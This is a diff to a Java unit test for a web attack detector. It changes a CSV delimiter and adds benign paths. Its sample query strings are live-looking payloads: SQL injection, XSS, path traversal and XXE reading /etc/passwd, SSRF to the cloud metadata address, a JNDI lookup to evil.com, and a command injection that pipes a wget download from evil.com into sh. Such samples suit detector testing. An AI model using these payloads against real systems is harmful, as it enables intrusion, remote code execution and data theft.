@@ -166,15 +166,15 @@ class AttackDetectorTest {
 
   @ParameterizedTest
   @CsvSource(
-      delimiter = '|',
+      delimiter = '~',
       value = {
-        "q=1'+or+'1'%3D'1 | sqli | query_param:q",
-        "q=%253Cscript%253Ealert(1)%253C/script%253E | xss | query_param:q",
-        "f=../../../etc/passwd | path_traversal | query_param:f",
-        "h=127.0.0.1;cat+/etc/passwd | cmd_injection | query_param:h",
-        "x=${jndi:ldap://evil.com/a} | code_injection | query_param:x",
-        "u=http://169.254.169.254/latest/meta-data/ | ssrf | query_param:u",
-        "n=<!DOCTYPE+a+[<!ENTITY+b+SYSTEM+\"file:///etc/passwd\">]> | xml | query_param:n"
+        "q=1'+or+'1'%3D'1 ~ sqli ~ query_param:q",
+        "q=%253Cscript%253Ealert(1)%253C/script%253E ~ xss ~ query_param:q",
+        "f=../../../etc/passwd ~ path_traversal ~ query_param:f",
+        "h=127.0.0.1;wget+http://evil.com/a+-O-+|sh ~ cmd_injection ~ query_param:h",
+        "x=${jndi:ldap://evil.com/a} ~ code_injection ~ query_param:x",
+        "u=http://169.254.169.254/latest/meta-data/ ~ ssrf ~ query_param:u",
+        "n=<!DOCTYPE+a+[<!ENTITY+b+SYSTEM+\"file:///etc/passwd\">]> ~ xml ~ query_param:n"
       })
   void attacksAreFoundWithoutAnyPattern(String query, String category, String context) {
     policy.patterns = PatternSet.EMPTY;
@@ -273,6 +273,11 @@ class AttackDetectorTest {
         "/~ada/",
         "/login",
         "/static/js/main.3f2a1b.js",
+        "/shop/admin",
+        "/admin/users",
+        "/shop/login",
+        "/app/config",
+        "/x/sql",
         "/articles/how-to-drop-a-table",
         "/"
       })
